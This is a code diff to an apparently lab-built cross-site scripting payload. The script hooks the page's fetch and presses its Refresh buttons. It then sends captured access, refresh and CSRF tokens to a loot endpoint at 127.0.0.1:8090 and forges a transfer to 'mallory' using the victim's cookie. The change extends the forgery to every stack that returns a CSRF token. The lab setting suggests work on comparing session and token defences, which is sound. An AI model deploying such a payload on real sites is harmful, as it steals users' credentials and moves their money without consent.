@@ -9,14 +9,14 @@
 // - it presses the page's own Refresh buttons (once per logged-in column, and in columns that log
 //   in later), so that the page sends its refresh token and its CSRF tokens now instead of
 //   whenever the victim clicks;
-// - with a session stack's CSRF token it makes a transfer to mallory from inside the page: the
+// - with the CSRF token of a stack whose credential is a cookie (the session stacks, and the token
+//   stack with TOKEN_TRANSPORT=cookie) it makes a transfer to mallory from inside the page: the
 //   browser attaches the victim's cookie, and the CSRF defences cannot tell it from the page.
 (() => {
   if (window.__xssLab) return; // the memo shows in two columns (the Redis stacks share transfers)
   window.__xssLab = true;
 
   const LOOT = 'http://127.0.0.1:8090/loot';
-  const SESSION_PORTS = ['8081', '8083'];
   const pageFetch = window.fetch;
   const sent = new Set();
   const forged = new Set();
@@ -48,9 +48,9 @@
     res.clone().json().then(data => {
       if (data.access_token) send('access_token', port, data.access_token);
       if (data.refresh_token) send('refresh_token', port, data.refresh_token);
-      if (data.csrfToken) {
+      if (data.csrfToken) { // only a cookie credential comes with one
         send('csrf_token', port, data.csrfToken);
-        if (SESSION_PORTS.includes(port)) forgeTransfer(port, data.csrfToken);
+        forgeTransfer(port, data.csrfToken);
       }
     }).catch(() => {});
   }
